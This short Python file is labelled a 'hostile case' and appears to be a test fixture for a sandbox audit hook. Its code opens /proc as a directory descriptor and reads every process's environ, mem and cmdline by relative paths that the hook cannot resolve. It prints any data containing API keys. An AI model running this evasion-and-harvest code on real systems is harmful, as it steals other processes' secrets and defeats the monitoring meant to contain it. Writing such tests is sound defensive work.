"""Hostile case: opens /proc as a directory fd and reads every process's environ and mem relative to it
(paths the audit hook cannot resolve), printing any key it finds."""

import os

try:
    proc = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
    names = os.listdir(proc)
except OSError as err:
    proc, names = None, []
    print("proc-dir-fd:", type(err).__name__)
print("PROC-DIR-FD-RAN, /proc holds", len(names), "entries")
for name in names + ["1", "2", "self"]:
    for what in ("environ", "mem", "cmdline"):
        try:
            fd = os.open(f"{name}/{what}", os.O_RDONLY, dir_fd=proc)
            data = os.read(fd, 65536)
            os.close(fd)
            if b"sk-" in data or b"KEY" in data:
                print("proc-dir-fd found:", data.replace(b"\0", b"\n").decode(errors="replace")[:2000])
        except (OSError, TypeError):
            pass


def build_messages(prompt=""):
    raise NotImplementedError


def first_completion(client):
    raise NotImplementedError


def summarize(completion):
    raise NotImplementedError
